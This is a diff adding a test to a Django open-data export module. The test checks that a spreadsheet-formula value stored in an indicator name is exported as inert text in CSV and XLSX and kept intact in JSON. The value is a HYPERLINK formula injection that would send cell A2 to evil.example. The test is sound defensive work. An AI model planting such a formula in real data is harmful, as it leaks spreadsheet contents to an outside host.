@@ -127,3 +127,35 @@ def test_a_release_that_fails_half_way_leaves_no_release_and_no_files(
     assert dataset.state == DatasetState.DRAFT and dataset.published_at is None
     media = Path(settings.MEDIA_ROOT)
     assert not [p for p in media.rglob("*") if p.is_file()]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Xem")'
+
+
+def test_a_formula_in_a_name_is_inert_in_the_csv_and_xlsx_and_intact_in_the_json(
+    people, capital, define
+):
+    from dantoc.indicators.models import Indicator
+    from dantoc.indicators.services import indicator_save
+    from dantoc.opendata.selectors import release_preview
+
+    indicator = Indicator.objects.get(code="VON_KH")
+    indicator.name = HYPERLINK
+    indicator_save(
+        actor=people.ministry, indicator=indicator, categories=list(indicator.categories.all())
+    )
+    release = services.dataset_publish(actor=people.province, dataset=define())
+    rows = {(r["indicator"], r["unit_code"]): r for r in read_csv(release)}
+    assert rows[("VON_KH", "08")]["indicator_name"] == "'" + HYPERLINK
+    assert rows[("VON_KH", "08")]["value"] == "800"
+    with release.files.get(format="json").file.open("rb") as fh:
+        records = json.load(fh)["records"]
+    assert {r["indicator_name"] for r in records if r["indicator"] == "VON_KH"} == {HYPERLINK}
+    with release.files.get(format="xlsx").file.open("rb") as fh:
+        sheet = load_workbook(io.BytesIO(fh.read())).worksheets[0]
+    names = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "VON_KH"]
+    assert names and all(c.value == HYPERLINK and c.data_type == "s" for c in names)
+    assert all(c.quotePrefix for c in names)
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+    header, preview = release_preview(release)
+    assert HYPERLINK in {line[header.index("indicator_name")] for line in preview}
